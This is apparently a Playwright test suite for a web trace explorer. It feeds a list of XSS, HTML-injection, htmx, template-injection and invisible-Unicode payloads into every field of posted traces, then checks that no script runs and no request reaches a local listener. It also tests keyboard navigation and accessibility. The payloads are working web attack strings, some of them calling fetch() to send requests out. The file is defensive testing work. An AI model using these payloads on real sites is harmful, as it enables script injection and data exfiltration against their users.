"""The explorer in a real browser: hostile text in every field, the keyboard alone, and accessibility.

Everything goes in through the HTTP endpoints of the running server.
"""

# ruff: noqa: E501  (a payload is read best in one piece)
from __future__ import annotations

import json
import threading
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Locator, Page, expect

pytestmark = pytest.mark.browser

NOW = datetime.now(UTC)
PASSWORD = "a long enough passphrase"


class Listener:
    """Counts what arrives at an address that no page has any business with."""

    def __init__(self) -> None:
        heard = self.heard = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.server.shutdown()
    listener.server.server_close()


@pytest.fixture(scope="module")
def house(server) -> SimpleNamespace:
    """A project on the running server, with a token to send by and someone who can sign in."""
    said = server.manage_each(
        ["create_project", "looked-at"],
        ["create_user", "greta", "--project", "looked-at", "--role", "lead", "--password", PASSWORD],
        ["create_token", "looked-at", "test", "--scope", "ingest"],
    )
    token = said[-1].split()[-1]

    def send(path, body):
        request = urllib.request.Request(
            server.url + path,
            json.dumps(body).encode(),
            {"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
        )
        with urllib.request.urlopen(request, timeout=120) as answer:
            said = json.loads(answer.read() or b"{}")
        assert not said.get("rejected"), said

    return SimpleNamespace(url=server.url, traces=f"{server.url}/projects/looked-at/traces", send=send)


@pytest.fixture(scope="module")
def signed_in(browser: Browser, house) -> dict:
    context = browser.new_context()
    page = context.new_page()
    page.goto(house.traces)
    page.fill("input[name=login]", "greta")
    page.fill("input[name=password]", PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_url(lambda url: "login" not in url)
    state = context.storage_state()
    context.close()
    return state


class Watch:
    """What a page did that it should not have done."""

    def __init__(self, page: Page, home: str) -> None:
        self.strange: list[str] = []
        page.on("dialog", lambda dialog: (self.strange.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: self.strange.append(f"popup {popup.url}"))
        page.on("pageerror", lambda error: self.strange.append(f"error {error}"))
        page.on("console", lambda line: line.type in ("error", "warning") and self.strange.append(line.text))
        page.on("request", lambda request: request.url.startswith(home) or self.strange.append(request.url))


def payloads(url: str) -> list[str]:
    """Script, exfiltration and htmx behaviour in the forms that slip through where text becomes markup."""
    load = f"{url}/x"
    return [
        f"<script src='{load}'></script><script>fetch('{load}');alert(1)</script>",
        f"<img src='{load}' onerror=alert(1)><img src=x onerror=\"fetch('{load}')\">",
        f"<svg onload=fetch('{load}')><image href='{load}'/><use href='{load}#a'/></svg>",
        f"<svg><style>@import '{load}';</style><animate onbegin=alert(1) attributeName=x></svg>",
        f"<math><mtext><table><mglyph><style><img src='{load}' onerror=alert(1)></style></math>",
        f"<math href='javascript:fetch(\"{load}\")'>m</math>",
        f"![pixel]({load}) ![ref][r]\n\n[r]: {load}",
        f"[a](javascript:fetch('{load}')) [b](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)>",
        f"<a href='{load}' ping='{load}' target=_blank>x</a> [tracked]({load}?q=secret)",
        f"<div hx-get='{load}' hx-trigger=load></div><div data-hx-get='/logout' data-hx-trigger=load></div>",
        f"<div hx-on::load=\"fetch('{load}')\" hx-on:click='alert(1)' data-key=j data-row data-copy='#x'></div>",
        f"<form action='{load}'><button autofocus>x</button></form><input autofocus onfocus=alert(1)>",
        f"<meta http-equiv=refresh content='0;url={load}'><base href='{url}/'><link rel=stylesheet href='{load}'>",
        f"<link rel=prefetch href='{load}'><link rel=dns-prefetch href='{load}'><iframe src='{load}'></iframe>",
        f"<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe><object data='{load}'></object>",
        f"<embed src='{load}'><video src='{load}' poster='{load}'></video><audio src='{load}' autoplay></audio>",
        f"<style>*{{background:url({load})}}</style><p style='background:url({load})'>x</p>",
        f"<details open ontoggle=alert(1)><summary>x</summary></details><body onload=fetch('{load}')>",
        f"</textarea></script></style></title></svg></template><script>fetch('{load}')</script>",
        f"--><script>alert(1)</script><!-- ]]><img src='{load}'>",
        f"\"><img src='{load}' onerror=alert(1)><\"",
        f"'><svg onload=alert(1)>' onmouseover='fetch(`{load}`)' autofocus onfocus=alert(1) x='",
        f"&lt;img src={load}&gt; &#60;script&#62;alert(1)&#60;/script&#62; &amp;lt;b&amp;gt;",
        "{{ request.user }} {% load static %} {% include 'x' %} ${7*7} #{7*7} <%= 7*7 %>",
        "\u202ekcatta\u202c \u2066x\u2069 zero\u200bwidth \ufeff \U000e0041 \u2028 \u0085 \u3164",
        f"<portal src='{load}'></portal><marquee onstart=alert(1)>x</marquee><isindex action='{load}'>",
        f"<template><img src='{load}'></template><noscript><p title=\"</noscript><img src='{load}'>\">",
        f"<table background='{load}'><td background='{load}'></table><bgsound src='{load}'>",
        f"=HYPERLINK(\"{load}\") `<img src='{load}'>` ```html\n<img src='{load}'>\n```",
        f"<img srcset='{load} 1x'><picture><source srcset='{load}'></picture><input type=image src='{load}'>",
    ]


def hostile_trace(number: int, text: str) -> dict:
    """The payload in every field that holds text."""
    started = NOW - timedelta(minutes=number)
    end = started + timedelta(seconds=1)
    return {
        "id": f"{number} {text}"[:128],
        "started_at": started.isoformat(),
        "ended_at": end.isoformat(),
        "input": {
            "messages": [
                {"role": "system", "content": text},
                {"role": "user", "content": f"earlier {text}"},
                {"role": text[:60], "content": text},
                {"role": "user", "content": text},
                {
                    "role": "assistant",
                    "content": text,
                    "tool_calls": [{"name": text, "arguments": {text: text, "deep": [text]}}],
                },
                {"role": "tool", "content": json.dumps({text: text[:80], "plain": text[:80]})},
                {"role": "tool", "content": text},
            ]
        },
        "output": text,
        "context": [{"id": text[:100], "text": f"words of a passage {text}", "score": 0.5}],
        "model": text,
        "provider": text,
        "prompt_name": text,
        "prompt_version": text,
        "route": text,
        "environment": text,
        "session_id": text[:128],
        "user_id": text,
        "status": "error",
        "error": text,
        "tags": {text[:100]: text},
        "spans": [
            {
                "span_id": f"{number}{text}"[:100],
                "name": text,
                "started_at": started.isoformat(),
                "ended_at": end.isoformat(),
                "status": "error",
                "error": text,
                "attributes": {text: text, "n": {text: [text]}},
                "events": [{"name": text, "time": started.isoformat(), "attributes": {text: text}}],
            },
            {
                "span_id": f"child {number}",
                "parent_id": text[:100],
                "name": text,
                "started_at": started.isoformat(),
            },
        ],
        "scores": [
            {
                "name": text[:200],
                "value": 0.2,
                "label": text,
                "explanation": text,
                "error_type": text,
                "source": "llm",
                "evaluator": {"name": text, "version": text, "model": text},
                "metadata": {text: text},
            },
            {"name": "human", "label": text, "source": "human"},
            {"name": text[:190] + " check", "value": 0.1, "source": "code"},
        ],
        "feedback": [
            {
                "kind": "comment",
                "comment": text,
                "user": text[:200],
                "dimension": text[:100],
                "payload": {text: text},
            },
            {"kind": "rating", "value": "1", "payload": {"max": 5}, "comment": text},
        ],
    }


def otlp_trace(number: int, text: str) -> dict:
    """The same by OTLP: messages as JSON strings, scope, resource, events."""

    def attribute(key: str, value: str) -> dict:
        return {"key": key, "value": {"stringValue": value}}

    messages = json.dumps(
        [{"role": "user", "parts": [{"type": "text", "content": text}, {"type": text, text: text}]}]
    )
    nanoseconds = str(int((NOW - timedelta(minutes=number)).timestamp()) * 10**9)
    span = {
        "traceId": f"{number:032x}",
        "spanId": f"{number:016x}",
        "name": text,
        "startTimeUnixNano": nanoseconds,
        "endTimeUnixNano": nanoseconds,
        "status": {"code": 2, "message": text},
        "attributes": [
            attribute("gen_ai.operation.name", "chat"),
            attribute("gen_ai.request.model", text),
            attribute("gen_ai.input.messages", messages),
            attribute("gen_ai.system_instructions", text),
            attribute("gen_ai.output.messages", messages.replace('"user"', '"assistant"')),
            attribute("session.id", text),
            attribute(text, text),
        ],
        "events": [{"name": text, "timeUnixNano": nanoseconds, "attributes": [attribute(text, text)]}],
    }
    scope = {"scope": {"name": text}, "spans": [span]}
    return {
        "resourceSpans": [
            {"resource": {"attributes": [attribute("service.name", text)]}, "scopeSpans": [scope]}
        ]
    }


@pytest.fixture(scope="module")
def hostile(house, listener) -> list[str]:
    """The ids of the hostile traces, all of them sent."""
    texts = payloads(listener.url)
    house.send("/api/v1/traces", [hostile_trace(number, text) for number, text in enumerate(texts, 1)])
    together = [" ".join(texts[start : start + 5]) for start in range(0, len(texts), 5)]
    for number, text in enumerate(together, 1):
        house.send("/v1/traces", otlp_trace(number, text))
    ids = [f"{number} {text}"[:128] for number, text in enumerate(texts, 1)]
    return ids + [f"{number:032x}" for number in range(1, len(together) + 1)]


UNSEEN = "\u202e\u202c\u2066\u2069\u200b\ufeff\U000e0041\u2028\u0085\u3164"


def settle(page: Page) -> None:
    """All parts have come, and what a script or an image would have started has had its time."""
    page.wait_for_load_state("load")
    page.wait_for_timeout(40)
    expect(page.locator(".htmx-request")).to_have_count(0)
    page.wait_for_timeout(20)


def test_the_listener_hears_what_an_open_page_would_load(browser, listener):
    page = browser.new_page()
    watch = Watch(page, "about:")
    page.set_content(f"<img src='{listener.url}/proof'><script>alert(1)</script>")
    settle(page)
    page.close()
    assert "/proof" in listener.heard
    assert any("dialog" in line for line in watch.strange)
    listener.heard.clear()


def test_hostile_text_does_nothing_on_the_list(browser, house, hostile, signed_in, listener):
    context = browser.new_context(storage_state=signed_in)
    page = context.new_page()
    watch = Watch(page, house.url)
    page.goto(house.traces)
    page.locator("input[name=column]").evaluate_all("boxes => boxes.forEach(box => box.checked = true)")
    with page.expect_navigation():
        page.locator("form[action$=trace-columns]").evaluate(
            "form => form.requestSubmit(form.querySelector('.primary'))"
        )
    while True:
        settle(page)
        assert not set(UNSEEN) & set(page.content())
        older = page.locator("a[rel=next]")
        if not older.count():
            break
        with page.expect_navigation():
            older.click()
    for menu in page.locator(".filters details.pick").all():
        menu.locator("summary").click()
        settle(page)
    for text in payloads(listener.url)[:6]:
        page.goto(f"{house.traces}?q={quote(text)}&route={quote(text)}&from={quote(text)}")
        settle(page)
    strange = [line for line in watch.strange if "422" not in line]
    context.close()
    assert strange == []
    assert listener.heard == []


def test_hostile_text_does_nothing_on_a_trace(browser, house, hostile, signed_in, listener):
    context = browser.new_context(storage_state=signed_in)
    page = context.new_page()
    watch = Watch(page, house.url)
    for trace_id in hostile:
        answer = page.goto(f"{house.traces}/{quote(trace_id, safe='')}")
        assert answer.status == 200, trace_id
        page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
        settle(page)
        assert not set(UNSEEN) & set(page.content()), trace_id
    for trace_id in hostile[::10]:
        page.goto(f"{house.traces}/{quote(trace_id, safe='')}?text=raw")
        page.goto(f"{house.url}/projects/looked-at/trace-json/{quote(trace_id, safe='')}")
        settle(page)
        assert not set(UNSEEN) & set(page.content()), trace_id
    context.close()
    assert watch.strange == []
    assert listener.heard == []


@pytest.fixture(scope="module")
def plain(house) -> None:
    passage = {"id": "returns", "text": "You can have your money back within thirty days.", "score": 0.9}
    for number in (1, 2, 3):
        started = NOW + timedelta(minutes=number)
        house.send(
            "/api/v1/traces",
            {
                "id": f"plain-{number}",
                "started_at": started.isoformat(),
                "session_id": "sitting",
                "route": "plain",
                "ended_at": (started + timedelta(seconds=2)).isoformat(),
                "model": "atlas-3",
                "cost_usd": 0.0041,
                "input": {
                    "messages": [
                        {"role": "system", "content": "Be kind."},
                        {"role": "user", "content": "Hello"},
                        {"role": "assistant", "content": "Hi"},
                        {"role": "user", "content": f"My zip broke, number {number}"},
                        {
                            "role": "assistant",
                            "content": "",
                            "tool_calls": [{"name": "get_order", "arguments": {"id": 1}}],
                        },
                        {"role": "tool", "content": json.dumps({"item": "jacket", "paid": 129})},
                    ]
                },
                "output": "Sorry. **You can have your money back**:\n\n- by card\n\n| a | b |\n|--|--|\n| 1 | 2 |",
                "context": [passage],
                "tags": {"channel": "web"},
                "scores": [{"name": "faithfulness", "value": 0.3, "explanation": "claims too much"}],
                "feedback": [{"kind": "thumbs", "value": "down", "comment": "no"}],
                "spans": [
                    {
                        "span_id": "a",
                        "name": "chat",
                        "started_at": started.isoformat(),
                        "status": "error",
                        "error": "late",
                    }
                ],
            },
        )


def search(page: Page, words: str) -> None:
    """Typed into the search field; the list of all these words, not of the first of them, has come."""
    page.keyboard.type(words)
    page.wait_for_url(lambda url: parse_qs(urlsplit(url).query).get("q") == [words])


def row_of(page: Page, trace_id: str) -> Locator:
    return page.locator(f"[data-row][href*='/{trace_id}']")


def test_a_list_that_comes_anew_keeps_the_row_in_focus(browser, house, plain, signed_in):
    """As for someone who moves on before the words just typed have been looked for."""
    context = browser.new_context(storage_state=signed_in)
    page = context.new_page()
    page.goto(f"{house.traces}?q=zip")
    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(row_of(page, "plain-2")).to_be_focused()
    page.evaluate("document.activeElement.classList.add('of-the-old-list')")
    page.locator("input[type=search]").evaluate(
        "field => { field.value = 'zip broke'; field.dispatchEvent(new Event('search')) }"
    )
    expect(page.locator(".of-the-old-list")).to_have_count(0)
    expect(row_of(page, "plain-2")).to_be_focused()
    page.keyboard.press("Enter")
    page.wait_for_url("**/traces/plain-2?q=zip+broke")
    context.close()


def test_leaving_the_search_keeps_its_words(browser, house, plain, signed_in):
    context = browser.new_context(storage_state=signed_in)
    page = context.new_page()
    page.goto(house.traces)
    page.keyboard.press("/")
    search(page, "zip broke")
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.keyboard.press("Escape")
    field = page.locator("input[type=search]")
    expect(field).not_to_be_focused()
    expect(field).to_have_value("zip broke")
    page.keyboard.press("j")
    expect(row_of(page, "plain-3")).to_be_focused()
    assert not [url for url in asked if "/traces" in url]
    context.close()


def test_the_keyboard_alone_finds_and_reads_a_trace(browser, house, plain, signed_in):
    context = browser.new_context(storage_state=signed_in)
    page = context.new_page()
    page.goto(house.traces)
    page.keyboard.press("/")
    search(page, "zip broke")
    expect(page.locator("[data-row]")).to_have_count(3)
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(row_of(page, "plain-2")).to_be_focused()
    page.keyboard.press("Enter")
    page.wait_for_url("**/traces/plain-2?q=zip*")
    page.keyboard.press("t")
    page.keyboard.press("t")
    expect(page.locator("#spans")).to_have_attribute("open", "")
    page.keyboard.press("r")
    expect(page.locator(".prose.answer.as-is")).to_contain_text("**You can have your money back**")
    page.keyboard.press("j")
    page.wait_for_url("**/traces/plain-1?q=zip*")
    page.keyboard.press("k")
    page.wait_for_url("**/traces/plain-2?q=zip*")
    page.goto(house.traces)
    page.keyboard.press("f")
    # The browser tells of the opened menu a moment later, and only then is its first field entered.
    expect(page.locator("#filter-from")).to_be_focused()
    page.keyboard.type("not a day")
    page.keyboard.press("Enter")
    page.wait_for_selector("#error-from")
    context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(("width", "height"), [(1440, 900), (390, 844)])
def test_pages_are_accessible_and_fit(browser, house, plain, signed_in, scheme, width, height):
    context = browser.new_context(
        storage_state=signed_in,
        color_scheme=scheme,
        reduced_motion="reduce",
        viewport={"width": width, "height": height},
    )
    page = context.new_page()
    for address in ("?route=plain", "?route=nowhere", "?from=never", "/plain-2", "/unknown"):
        page.goto(house.traces + address)
        settle(page)
        page.evaluate("document.querySelectorAll('details:not(.pick)').forEach(part => part.open = true)")
        settle(page)
        found = Axe().run(page)
        assert found.violations_count == 0, f"{address}\n{found.generate_report()}"
        assert page.evaluate("document.documentElement.scrollWidth") <= width, address
    context.close()


def test_a_phone_shows_where_in_the_navigation_one_is(browser, house, plain, signed_in):
    context = browser.new_context(storage_state=signed_in, viewport={"width": 390, "height": 844})
    page = context.new_page()
    page.goto(house.traces.replace("/traces", "/checks"))
    here = page.locator(".rail-link[aria-current]")
    box = here.bounding_box()
    assert here.inner_text() == "Checks" and 0 <= box["x"] <= box["x"] + box["width"] <= 390
    assert page.evaluate("scrollY") == 0
    context.close()
